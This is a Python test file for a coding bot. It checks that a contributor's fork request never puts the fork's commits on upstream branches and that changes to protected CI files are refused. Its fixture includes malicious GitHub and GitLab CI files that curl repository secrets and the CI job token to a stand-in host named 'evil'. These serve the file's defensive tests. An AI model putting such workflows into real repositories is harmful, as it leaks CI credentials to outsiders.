"""Outsiders stay outside (issue 18): a contributor's fork request handed to the bot by a writer
never puts the fork's commits on a branch of the upstream repository. The bot pushes its own
commit to the fork's branch when maintainers may, else answers with a patch; and every push to
the upstream repository is checked for protected paths over the whole diff it brings.

Real daemon, real PyGithub / python-gitlab clients against the emulator, scripted model."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from bot.core.config import AgentSettings
from bot.model.state import Status, TaskState
from bot.model.thread import TaskKey
from bot.repo.publish import PublishError, publish
from bot.repo.snapshot import snapshot
from bot.repo.workspace import Workspace
from bot_sandbox.forge_server import Fault
from bot_sandbox.llm_server import count_tool_results
from bot_sandbox.world import SRepo, SThread
from tests.conftest import REPO, ForgeFactory
from tests.rig import Rig
from tests.test_agent_e2e import call

EVIL_CI = 'on: push\njobs: {x: {steps: [{run: "curl -d \\"${{ toJSON(secrets) }}\\" evil"}]}}\n'
FORK_FILES = {
    ".github/workflows/ci.yml": EVIL_CI,
    ".gitlab-ci.yml": 'x:\n  script: curl -d "$CI_JOB_TOKEN" evil\n',
    "src/app.py": "print('hi')  # lint: trailing comment\n",
}
FIXED = "print('hi')\n"


def fix_the_lint(before_finish: Any = None) -> Any:
    """The writer said "/bot fix the lint": the model edits the fork's file and finishes."""
    ran: list[bool] = []

    def policy(request: dict[str, Any]) -> dict[str, Any]:
        if count_tool_results(request) == 0:
            return call("write_file", path="src/app.py", content=FIXED)
        if before_finish is not None and not ran:
            ran.append(True)
            before_finish()
        return call("finish", summary="Removed the trailing comment.")

    return policy


def fork_request(rig: Rig, *, maintainer_can_modify: bool) -> SThread:
    return rig.forge.world.add_fork_request(
        rig.platform,
        REPO,
        author="bob",  # read access only
        files=FORK_FILES,
        title="Tidy the app",
        body="Small cleanup.",
        labels=["coding agent"],  # set by the repository's owner: a writer hands it over
        maintainer_can_modify=maintainer_can_modify,
    )


def upstream(rig: Rig) -> SRepo:
    return rig.forge.world.repo(rig.platform, REPO)


def fork(rig: Rig) -> SRepo:
    return rig.forge.world.repo(rig.platform, "bob/app")


def assert_upstream_untouched(rig: Rig, branches_before: dict[str, str], fork_sha: str) -> None:
    """No branch of the upstream repository carries a commit the bot did not write, and none
    was added or moved: the fork's head is reachable from none of them."""
    repo = upstream(rig)
    assert repo.branches == branches_before
    for branch, sha in repo.branches.items():
        assert fork_sha not in repo.ancestors(sha), branch
    assert not [t for t in repo.threads.values() if t.change is not None]  # no request opened


def test_a_fork_without_maintainer_edits_gets_a_patch(rig: Rig, tmp_path: Path) -> None:
    thread = fork_request(rig, maintainer_can_modify=False)
    before, fork_sha = dict(upstream(rig).branches), thread.head_sha
    rig.model.policy = fix_the_lint()
    rig.run_once()

    assert rig.state(thread).status is Status.DONE, rig.bot_comments(thread)
    assert_upstream_untouched(rig, before, fork_sha)
    assert fork(rig).branches["patch-1"] == fork_sha  # the fork is not touched either
    final = rig.bot_comments(thread)[-1]
    assert "I did not push anything" in final and "bob/app" in final
    setting = "Allow edits by maintainers" if rig.platform == "github" else "Allow commits from"
    assert setting in final
    # The patch applies to the request's head with git and gives the bot's change.
    patch = final.split("```diff\n", 1)[1].split("```", 1)[0]
    checkout = tmp_path / "checkout"
    for path, data in fork(rig).commits[fork_sha].files.items():
        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
        (checkout / path).write_bytes(data)
    subprocess.run(["git", "init", "-q", str(checkout)], check=True)
    subprocess.run(["git", "apply"], cwd=checkout, input=patch.encode(), check=True)
    assert (checkout / "src/app.py").read_text() == FIXED


def test_a_fork_with_maintainer_edits_gets_the_bots_commit_on_its_branch(rig: Rig) -> None:
    thread = fork_request(rig, maintainer_can_modify=True)
    before, fork_sha = dict(upstream(rig).branches), thread.head_sha
    rig.model.policy = fix_the_lint()
    rig.run_once()

    assert rig.state(thread).status is Status.DONE, rig.bot_comments(thread)
    assert_upstream_untouched(rig, before, fork_sha)
    head = fork(rig).commits[fork(rig).branches["patch-1"]]
    assert head.parents == [fork_sha] and head.author == "coding-bot"
    assert head.files["src/app.py"] == FIXED.encode()
    assert head.files[".github/workflows/ci.yml"] == EVIL_CI.encode()  # the fork's, untouched
    assert thread.head_sha == head.sha  # the request follows its branch
    assert "in `bob/app` (this request's branch)" in rig.bot_comments(thread)[-1]


@pytest.mark.parametrize("when", ["before finishing", "right before the push"])
def test_maintainer_edits_withdrawn_before_the_push_give_a_patch(rig: Rig, when: str) -> None:
    """The permission is read with the thread when the work is done, and again immediately
    before the push (after the bot read the fork's branch)."""
    thread = fork_request(rig, maintainer_can_modify=True)
    before, fork_sha = dict(upstream(rig).branches), thread.head_sha

    def withdraw() -> None:
        thread.maintainer_can_modify = False

    if when == "before finishing":
        rig.model.policy = fix_the_lint(before_finish=withdraw)
    else:
        branch_read = r"bob(/|%2F)app/(git/ref/heads|repository/branches)/patch-1"
        rig.forge.add_fault(Fault(kind="hook", method="GET", path=branch_read, action=withdraw))
        rig.model.policy = fix_the_lint()
    rig.run_once()

    assert rig.state(thread).status is Status.DONE
    assert_upstream_untouched(rig, before, fork_sha)
    assert fork(rig).branches["patch-1"] == fork_sha
    final = rig.bot_comments(thread)[-1]
    assert "I did not push anything" in final and "```diff" in final
    if when == "right before the push":
        assert "no longer allows maintainers to push" in final


def test_a_fork_head_that_moved_gets_the_commit_on_its_new_head(rig: Rig) -> None:
    """The contributor pushes while the bot works: the bot's change goes on top of the new
    head, merged, never over it."""
    thread = fork_request(rig, maintainer_can_modify=True)
    before, fork_sha = dict(upstream(rig).branches), thread.head_sha
    pushed: list[str] = []

    def contributor_pushes() -> None:
        pushed.append(
            rig.forge.world.push(rig.platform, "bob/app", "patch-1", {"b.txt": "b\n"}, "b")
        )

    rig.model.policy = fix_the_lint(before_finish=contributor_pushes)
    rig.run_once()

    assert rig.state(thread).status is Status.DONE, rig.bot_comments(thread)
    assert_upstream_untouched(rig, before, fork_sha)
    head = fork(rig).commits[fork(rig).branches["patch-1"]]
    assert head.parents == pushed and head.files["b.txt"] == b"b\n"
    assert head.files["src/app.py"] == FIXED.encode()


def test_the_push_is_refused_by_the_forge_without_maintainer_rights(
    rig: Rig,
) -> None:
    """The emulator refuses a push to a fork's branch by someone who may not (GitHub and
    GitLab refuse it too); the bot's own choice is what keeps it from trying, and a forge
    refusal would end in the patch as well."""
    thread = fork_request(rig, maintainer_can_modify=False)
    world = rig.forge.world
    assert not world.may_push(fork(rig), "patch-1", "coding-bot")
    thread.maintainer_can_modify = True
    assert world.may_push(fork(rig), "patch-1", "coding-bot")
    assert not world.may_push(fork(rig), "other", "coding-bot")  # only the request's branch
    assert not world.may_push(fork(rig), "patch-1", "bob-the-reader")


@pytest.mark.parametrize("outside", [True, False])
def test_a_new_upstream_branch_from_a_fork_head_is_refused_naming_the_files(
    server: Any, make_forge: ForgeFactory, platform: str, tmp_path: Path, outside: bool
) -> None:
    """Defence in depth: even if the trust decision were wrong (`outside=False` for a fork's
    head), a new branch of the upstream repository whose parent changes protected paths
    relative to the target branch is refused, naming them."""
    world = server.world
    thread = world.add_fork_request(platform, REPO, author="bob", files=FORK_FILES)
    forge = make_forge()
    kind = "#" if platform == "github" else "!"
    key = TaskKey.parse(f"{platform}:{REPO}{kind}{thread.number}{'p' if kind == '#' else ''}")
    changes: dict[str, str | None] = {"src/app.py": FIXED}
    state = TaskState(key=str(key), base_sha=thread.head_sha, base_branch="main", changes=changes)
    workspace = Workspace(snapshot(forge, REPO, thread.head_sha, tmp_path / "cache"), changes)
    settings = AgentSettings(push_to_existing_branches=False)
    before = dict(world.repo(platform, REPO).branches)
    got = forge.get_thread(key)
    if outside:
        published = publish(
            forge, got, state, workspace, settings, lambda: None, "Fixed.", outside=True
        )
        assert published is not None and published.commit is None and published.patch
    else:
        with pytest.raises(PublishError) as refused:
            publish(forge, got, state, workspace, settings, lambda: None, "Fixed.", outside=False)
        assert ".github/workflows/ci.yml" in str(refused.value)
        assert ".gitlab-ci.yml" in str(refused.value)
    assert world.repo(platform, REPO).branches == before


def test_an_issue_branch_on_an_unmoved_pin_is_not_checked_beyond_the_changes(
    server: Any, make_forge: ForgeFactory, platform: str, tmp_path: Path
) -> None:
    """A person's later change to a protected file on the target branch is not the bot's
    push: a branch from an older pin brings only the bot's changes (merge-base diff)."""
    world = server.world
    thread = world.add_thread(platform, REPO, title="Fix it")
    pinned = world.repo(platform, REPO).branches["main"]
    world.push(platform, REPO, "main", {".github/workflows/ci.yml": "on: push\n"}, "ci")
    forge = make_forge()
    key = TaskKey.parse(f"{platform}:{REPO}#{thread.number}")
    changes: dict[str, str | None] = {"src/app.py": "print('hello')\n"}
    state = TaskState(key=str(key), base_sha=pinned, base_branch="main", changes=changes)
    workspace = Workspace(snapshot(forge, REPO, pinned, tmp_path / "cache"), changes)
    published = publish(
        forge,
        forge.get_thread(key),
        state,
        workspace,
        AgentSettings(),
        lambda: None,
        "Fixed.",
        outside=False,
    )
    assert published is not None and published.request_url
